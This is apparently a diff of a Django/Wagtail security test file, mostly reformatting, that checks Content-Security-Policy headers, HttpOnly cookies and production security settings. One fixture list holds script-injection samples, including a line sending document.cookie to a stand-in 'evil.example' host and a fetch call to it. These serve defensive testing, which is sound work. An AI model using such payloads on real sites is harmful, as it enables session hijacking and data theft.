@@ -33,7 +33,17 @@ def directives(answer) -> dict[str, list[str]]:
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("path", ["/en/account/login/", "/el/account/login/password/", "/en/account/signup/", "/en/", "/town.css", "/en/nothing/"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/en/account/login/",
+        "/el/account/login/password/",
+        "/en/account/signup/",
+        "/en/",
+        "/town.css",
+        "/en/nothing/",
+    ],
+)
 def test_public_pages_allow_their_own_host_only_and_nothing_unsafe(client, path):
     answer = client.get(path)
     policy = directives(answer)
@@ -53,7 +63,14 @@ def test_public_pages_allow_their_own_host_only_and_nothing_unsafe(client, path)
 @pytest.mark.django_db
 def test_the_admin_allows_no_more_than_its_own_host_and_the_nonce_of_the_page():
     client = browser_of(make_staff(group="Administrators"))
-    for path in ("/admin/", "/admin/users/", "/admin/reports/deeds/", "/admin/municipality/", "/admin/images/", "/admin/documents/"):
+    for path in (
+        "/admin/",
+        "/admin/users/",
+        "/admin/reports/deeds/",
+        "/admin/municipality/",
+        "/admin/images/",
+        "/admin/documents/",
+    ):
         answer = client.get(path)
         assert answer.status_code == 200, path
         policy = directives(answer)
@@ -101,7 +118,7 @@ def test_the_known_starters_of_wagtail_are_known(code):
         'initDateChooser("id", {"a": alert(1)});',
         'initDateChooser("id"); alert("x")',
         'new PageChooser("id", {}); new Image().src="//evil.example/"+document.cookie;',
-        'new PageChooser(`id`, {});',
+        "new PageChooser(`id`, {});",
         'alert("id", {})',
         'window.initDateChooser("id", {});',
         'fetch("https://evil.example");',
@@ -122,7 +139,9 @@ def test_cookies_are_out_of_reach_of_scripts(client):
     token = answer.cookies["csrftoken"]
     assert token["httponly"]
     make_staff("ed@town.test", password="a-long-password-1")
-    answer = client.post("/en/account/login/password/", {"login": "ed@town.test", "password": "a-long-password-1"})
+    answer = client.post(
+        "/en/account/login/password/", {"login": "ed@town.test", "password": "a-long-password-1"}
+    )
     session = answer.cookies["sessionid"]
     assert session["httponly"]
     assert session["samesite"] == "Lax"
@@ -136,7 +155,9 @@ def production(*command: str) -> subprocess.CompletedProcess[str]:
         "HTTPS": "1",
         "STAFF_SECOND_FACTOR": "1",
     }
-    return subprocess.run([sys.executable, *command], cwd=ROOT, env=env, capture_output=True, text=True, check=False)
+    return subprocess.run(
+        [sys.executable, *command], cwd=ROOT, env=env, capture_output=True, text=True, check=False
+    )
 
 
 def test_production_settings_pass_the_deployment_check():
@@ -145,9 +166,14 @@ def test_production_settings_pass_the_deployment_check():
 
 
 def test_production_asks_for_tls_secure_cookies_and_a_second_factor():
-    names = (
-        "SESSION_COOKIE_SECURE CSRF_COOKIE_SECURE SESSION_COOKIE_HTTPONLY CSRF_COOKIE_HTTPONLY SECURE_SSL_REDIRECT "
-        "SECURE_HSTS_SECONDS STAFF_SECOND_FACTOR"
-    ).split()
+    names = [
+        "SESSION_COOKIE_SECURE",
+        "SESSION_COOKIE_HTTPONLY",
+        "CSRF_COOKIE_SECURE",
+        "CSRF_COOKIE_HTTPONLY",
+        "SECURE_SSL_REDIRECT",
+        "SECURE_HSTS_SECONDS",
+        "STAFF_SECOND_FACTOR",
+    ]
     code = f"from django.conf import settings; print(all(getattr(settings, name) for name in {names}), settings.DEBUG, settings.DEMO)"
     assert production("-c", code).stdout.split() == ["True", "False", "False"]
